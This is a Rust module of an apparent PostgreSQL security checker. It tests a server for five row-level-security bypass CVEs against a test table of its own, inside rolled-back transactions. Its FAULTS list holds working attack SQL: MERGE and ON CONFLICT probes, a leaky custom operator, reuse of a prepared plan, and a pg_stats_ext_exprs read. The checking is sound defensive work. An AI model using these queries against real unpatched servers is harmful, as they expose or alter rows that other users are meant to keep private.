//! Faults of PostgreSQL itself: each is tried once for a server, on a table of our own with sound policies, in a
//! transaction that is rolled back. What shows there no schema can prevent, so it is told of the server and of no table.
use super::ObserveError;
use crate::server::Session;
use crate::sql::identifier;
use tokio_postgres::SimpleQueryMessage;

/// What the victim's row holds.
const SECRET: &str = "wtsecret_of_b";

/// One fault, and how it is tried.
pub struct Fault {
    /// The leak class.
    pub class: u8,
    pub cve: &'static str,
    pub says: &'static str,
    /// The releases that mend it; empty while none is known.
    pub mended: &'static str,
    /// What the superuser does before the attacker takes over.
    before: &'static str,
    /// The attacker's statements; the last one shows the secret where the fault is.
    attack: &'static str,
}

/// Everything that is tried.
pub static FAULTS: &[Fault] = &[
    Fault {
        class: 42,
        cve: "CVE-2023-39418",
        says: "MERGE changes rows that no UPDATE policy gives",
        mended: "15.4",
        before: "",
        attack: "MERGE INTO watertight_engine.rows t USING (VALUES (2)) v (id) ON t.id = v.id \
                 WHEN MATCHED THEN UPDATE SET shown = 'changed'; \
                 RESET ROLE; SELECT secret FROM watertight_engine.rows WHERE shown = 'changed'",
    },
    Fault {
        class: 73,
        cve: "CVE-2026-120154",
        says: "ON CONFLICT DO UPDATE … WHERE is evaluated on rows that no policy shows",
        mended: "",
        before: "",
        attack: "INSERT INTO watertight_engine.rows (id, owner, shown, secret) VALUES (2, 'a', 'x', 'x') \
                 ON CONFLICT (id) DO UPDATE SET shown = 'y' WHERE rows.secret::int = 1",
    },
    Fault {
        class: 80,
        cve: "CVE-2025-8713",
        says: "a leaky operator is shown values of hidden rows out of the planner's statistics",
        mended: "18.0, 17.6, 16.10, 15.14, 14.19",
        before: "",
        attack: "CREATE FUNCTION pg_temp.tell(text, text) RETURNS boolean LANGUAGE plpgsql COST 0.0001 AS \
                 $$ BEGIN IF $1 LIKE 'wtsecret%' THEN RAISE EXCEPTION 'told %', $1; END IF; RETURN $1 < $2; END $$; \
                 CREATE OPERATOR pg_temp.<<< (PROCEDURE = pg_temp.tell, LEFTARG = text, RIGHTARG = text, RESTRICT = scalarltsel); \
                 EXPLAIN SELECT FROM watertight_engine.rows WHERE secret OPERATOR(pg_temp.<<<) 'a'",
    },
    Fault {
        class: 92,
        cve: "CVE-2024-10976",
        says: "a plan that another role made keeps that role's view of the policies",
        mended: "17.1, 16.5, 15.9, 14.14",
        before: "DEALLOCATE ALL; \
                 PREPARE kept AS WITH shown AS MATERIALIZED (SELECT * FROM watertight_engine.rows) SELECT secret FROM shown; \
                 DO $$ BEGIN FOR n IN 1 .. 6 LOOP EXECUTE 'EXECUTE kept'; END LOOP; END $$;",
        attack: "EXECUTE kept",
    },
    Fault {
        class: 81,
        cve: "CVE-2024-4317",
        says: "pg_stats_ext_exprs shows values of hidden rows",
        mended: "16.3, 15.7, 14.12",
        before: "",
        attack: "SELECT most_common_vals::text FROM pg_stats_ext_exprs WHERE tablename = 'rows' AND schemaname = 'watertight_engine'",
    },
];

/// The faults that the server has, by the attacks that showed the secret. `role` is the one that members take.
pub async fn faults(session: &Session, role: &str) -> Result<Vec<&'static Fault>, ObserveError> {
    let mut found = Vec::new();
    for fault in FAULTS {
        if tried(session, Some(role), fault).await? {
            found.push(fault);
        }
    }
    Ok(found)
}

/// Whether the attack shows the secret to this role, or to the superuser: what is shown to nobody at all proves nothing.
pub async fn tried(
    session: &Session,
    role: Option<&str>,
    fault: &Fault,
) -> Result<bool, ObserveError> {
    let becomes = role.map(|role| format!("SET LOCAL ROLE {};", identifier(role)));
    let grant = role.map(|role| {
        let role = identifier(role);
        format!(
            "GRANT USAGE ON SCHEMA watertight_engine TO {role}; GRANT SELECT, INSERT, UPDATE ON watertight_engine.rows TO {role};"
        )
    });
    let message = format!(
        "ROLLBACK; BEGIN; {SETUP} {} {} {} {}",
        grant.unwrap_or_default(),
        fault.before,
        becomes.unwrap_or_default(),
        fault.attack
    );
    let answer = session.client().simple_query(&message).await;
    let shown = match &answer {
        Ok(messages) => messages.iter().any(|message| match message {
            SimpleQueryMessage::Row(row) => {
                (0..row.len()).any(|at| row.get(at).is_some_and(|cell| cell.contains(SECRET)))
            }
            _ => false,
        }),
        Err(error) => error
            .as_db_error()
            .is_some_and(|refused| refused.message().contains(SECRET)),
    };
    let ended = session.client().simple_query("ROLLBACK").await;
    ended.map_err(ObserveError::lost)?;
    Ok(shown)
}

/// Two owners' rows behind sound policies, with statistics of both.
const SETUP: &str = "CREATE SCHEMA watertight_engine; \
    CREATE TABLE watertight_engine.rows (id int PRIMARY KEY, owner text, shown text, secret text); \
    INSERT INTO watertight_engine.rows SELECT n, CASE n % 2 WHEN 0 THEN 'b' ELSE 'a' END, 'x', \
      CASE n % 2 WHEN 0 THEN 'wtsecret_of_b' ELSE 'of_a' END FROM generate_series(1, 40) n; \
    CREATE STATISTICS watertight_engine.kept (mcv) ON (secret || ''), owner FROM watertight_engine.rows; \
    ANALYZE watertight_engine.rows; \
    ALTER TABLE watertight_engine.rows ENABLE ROW LEVEL SECURITY; \
    CREATE POLICY p ON watertight_engine.rows USING (owner = 'a') WITH CHECK (owner = 'a'); \
    SET LOCAL client_min_messages = error;";
